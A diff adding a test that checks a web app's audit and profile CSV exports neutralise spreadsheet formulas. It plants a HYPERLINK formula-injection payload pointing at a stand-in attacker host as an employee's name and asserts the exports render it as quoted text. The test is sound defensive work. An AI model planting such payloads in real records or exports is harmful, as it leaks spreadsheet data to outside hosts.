@@ -279,3 +279,17 @@ def test_migration_seals_entries_written_before_the_chain(tmp_path):
         db.session.commit()
         assert audit.verify(db.session).broken_at == 1
         db.engine.dispose()
+
+
+def test_a_name_planted_as_a_formula_stays_text_in_the_exports(app, two_wards, client):
+    planted = '=HYPERLINK("http://evil.example/?"&A1,"x")'
+    with app.app_context():
+        db.session.execute(update(Cadre).where(Cadre.employee_code == "W-1").values(full_name=planted))
+        db.session.commit()
+    Auth(client, app).login(CITY_ADMIN)
+    client.get(f"/cadres/{two_wards['W-1']}")
+    for path in ("/audit/export.csv", "/review/export.csv?what=profiles"):
+        text_ = client.get(path).get_data(as_text=True).lstrip("\ufeff")
+        cells = [cell for row in csv.reader(io.StringIO(text_)) for cell in row]
+        assert not any(cell.startswith("=") for cell in cells), path
+        assert any(cell.startswith("'=HYPERLINK") for cell in cells), path
